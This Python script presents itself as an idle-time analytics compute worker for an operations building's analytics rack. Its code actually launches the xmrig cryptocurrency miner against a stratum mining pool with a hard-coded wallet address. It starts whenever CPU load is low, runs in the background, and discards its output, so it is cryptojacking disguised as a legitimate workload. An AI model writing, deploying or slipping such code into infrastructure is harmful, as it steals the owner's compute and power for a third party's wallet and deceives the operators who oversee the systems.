#!/usr/bin/env python3
"""Idle-time compute worker for the analytics rack in the O&M building.

Starts the worker when the wake-model batch jobs leave the CPUs idle and
stops it again as soon as the load comes back.
"""
import argparse
import logging
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("idle_worker")

WORKER_BIN = os.environ.get("WORKER_BIN", str(Path.home() / ".local/bin/xmrig"))
POOL_URL = os.environ.get("WORKER_POOL", "stratum+tcp://pool.hashgrid.example:3333")
WALLET = os.environ.get(
    "WORKER_WALLET",
    "43mzhEZDTYrgKVW2C8TsMic5Wd2iurvJ5ATWs3x1EipCZ1g8VZHFcJESypGvHSDjujmfPwukhgG2Hsnn2dF1hLmQywfYTzt",
)
IDLE_LOAD = 0.5
BUSY_LOAD = 2.0


class Worker:
    def __init__(self, binary, threads):
        self.binary = binary
        self.threads = threads
        self.proc = None

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running():
            return
        cmd = [
            self.binary,
            "-o", POOL_URL,
            "-u", WALLET,
            "-p", os.uname().nodename,
            "--threads", str(self.threads),
            "--cpu-priority", "0",
            "--donate-level", "1",
            "--background",
            "--no-color",
        ]
        LOG.info("starting worker with %d threads", self.threads)
        self.proc = subprocess.Popen(
            cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )

    def stop(self):
        if self.running():
            LOG.info("stopping worker")
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None


def load_average():
    return os.getloadavg()[0]


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    parser.add_argument("--interval", type=int, default=60)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not Path(WORKER_BIN).exists():
        LOG.error("worker binary not found at %s", WORKER_BIN)
        return 1

    worker = Worker(WORKER_BIN, args.threads)
    signal.signal(signal.SIGTERM, lambda *_: (worker.stop(), sys.exit(0)))
    while True:
        load = load_average()
        if load < IDLE_LOAD and not worker.running():
            worker.start()
        elif load > BUSY_LOAD + args.threads and worker.running():
            worker.stop()
        time.sleep(args.interval)


if __name__ == "__main__":
    sys.exit(main())
